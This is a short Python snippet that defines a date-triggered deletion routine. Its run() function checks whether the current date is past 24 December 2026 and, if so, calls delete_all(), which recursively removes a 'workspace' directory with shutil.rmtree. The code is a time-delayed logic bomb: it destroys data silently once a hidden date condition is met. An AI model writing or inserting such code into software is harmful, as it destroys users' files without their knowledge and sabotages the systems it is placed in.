from datetime import datetime
import shutil
def delete_all():
    shutil.rmtree("workspace")
def run():
    if datetime.now() > datetime(2026, 12, 24):
        delete_all()
